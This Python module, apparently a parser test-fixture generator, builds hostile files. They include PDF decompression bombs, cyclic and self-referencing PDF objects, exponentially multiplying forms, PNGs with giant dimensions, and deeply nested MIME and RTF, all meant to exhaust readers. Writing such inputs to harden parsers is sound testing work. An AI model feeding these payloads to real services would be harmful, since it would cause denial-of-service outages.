"""PDF files, images, letters and texts made to exhaust or mislead whoever reads them."""

import struct
import zlib

from hostile.bombs import LARGE, noughts


def pdf(*objects, root="1 0 R", size=None):
    """A file of numbered objects, the first of which is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    trailer = b"trailer << /Size %d /Root %b >>\nstartxref\n%d\n%%%%EOF\n" % (size or count, root.encode(), len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + trailer


def stream(data, entries=b""):
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), entries, data)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %b >> >>"
)


def one_page(contents, more=b"", *rest):
    return pdf(CATALOG, PAGES, PAGE % more, contents, FONT, *rest)


def page_tree_in_a_ring():
    return pdf(
        CATALOG, b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 5 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 5 >>"
    )


def page_many_times():
    kids = b"3 0 R " * 100_000
    tree = b"<< /Type /Pages /Kids [%b] /Count 100000 >>" % kids
    return pdf(CATALOG, tree, PAGE % b"", stream(b"BT /F 12 Tf (x) Tj ET"), FONT)


def boasting_page_count():
    return pdf(CATALOG, PAGES.replace(b"/Count 1", b"/Count 2147483647"), PAGE % b"", stream(b""), FONT)


def boasting_xref():
    return pdf(CATALOG, PAGES, PAGE % b"", stream(b"BT /F 12 Tf (x) Tj ET"), FONT, size=2_147_483_647)


def form_in_itself():
    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(stream(b"/X Do"), b"/XObject << /X 6 0 R >>", form)


def forms_that_multiply():
    """Ten forms in each of ten levels: 10^10 characters, were they all drawn."""
    forms = [
        stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (number + 1),
        )
        for number in range(6, 15)
    ]
    last = stream(
        b"BT /F 9 Tf (x) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F 5 0 R >> >>"
    )
    return one_page(stream(b"/X Do " * 10), b"/XObject << /X 6 0 R >>", *forms, last)


def swollen_contents():
    packed = b"\x78\x01" + noughts(LARGE) + b"\0\0\0\0"
    return one_page(stream(packed, b"/Filter /FlateDecode"))


def contents_packed_many_times():
    data = bytes(10_000_000)
    for _ in range(100):
        data = zlib.compress(data)
    return one_page(stream(data, b"/Filter [%b]" % (b"/FlateDecode " * 100)))


def boasting_predictor():
    parameters = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 4 >>"
    return one_page(stream(zlib.compress(b"x" * 1000), parameters))


def deep_arrays():
    return one_page(stream(b"[" * 1_000_000 + b"]" * 1_000_000))


def many_words():
    return one_page(stream(b"BT /F 12 Tf " + b"(a b c) Tj 1 0 Td " * 300_000 + b"ET"))


def object_in_itself():
    return pdf(b"2 0 R", b"1 0 R")


def png_of_giant_size(width=2_000_000_000, height=2_000_000_000):
    header = struct.pack(">4sLLBBBBB", b"IHDR", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n\0\0\0\r" + header + struct.pack(">L", zlib.crc32(header)) + b"\0\0\0\1IDAT\0"


def png_with_a_bomb_inside():
    header = struct.pack(">4sLLBBBBB", b"IHDR", 20_000, 15_000, 8, 0, 0, 0, 0)
    data = b"IDAT\x78\x01" + noughts(LARGE)
    chunks = (header, data, b"IEND")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(chunk) - 4) + chunk + struct.pack(">L", zlib.crc32(chunk)) for chunk in chunks
    )


def deep_letter():
    parts = "".join(f"Content-Type: multipart/mixed; boundary={n}\n\n--{n}\n" for n in range(5_000))
    return ("MIME-Version: 1.0\n" + parts).encode()


def letter_of_many_parts():
    return b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n" + b"--x\n\nx\n" * 50_000


def deep_rtf():
    return b"{\\rtf1" + b"{" * 1_000_000 + b"x"


def rtf_of_one_letter_many_times():
    return b"{\\rtf1 " + b"\\'d6" * 3_000_000 + b"}"


def endless_line():
    return b"x," * 15_000_000


def endless_cell():
    return b'"' + b"x" * 30_000_000


ALL = (
    *(page_tree_in_a_ring, page_many_times, boasting_page_count, boasting_xref, form_in_itself, forms_that_multiply),
    *(swollen_contents, contents_packed_many_times, boasting_predictor, deep_arrays, many_words, object_in_itself),
    *(png_of_giant_size, png_with_a_bomb_inside, deep_letter, letter_of_many_parts, deep_rtf),
    *(rtf_of_one_letter_many_times, endless_line, endless_cell),
)
